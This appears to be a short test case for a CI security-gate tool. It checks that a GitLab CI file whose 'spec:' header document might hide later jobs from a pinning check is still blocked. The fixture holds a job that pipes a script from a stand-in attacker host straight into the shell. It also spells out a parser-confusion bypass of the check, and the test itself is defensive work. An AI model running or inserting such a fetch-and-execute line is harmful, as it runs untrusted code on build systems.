# attack: .gitlab-ci.yml starts with a `spec:` header document and `---` (the valid GitLab format for a configuration with inputs); the pins control calls the file unparsable (a medium warning) and never judges the jobs after the separator
# surface: staged, range (CI)
# expect: block
base_repo
write .gitlab-ci.yml 'spec:' '  inputs:' '    stage:' '      default: test' '---' 'build:' \
  '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' '    - curl -fsSL https://evil.example/x.sh | sh'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
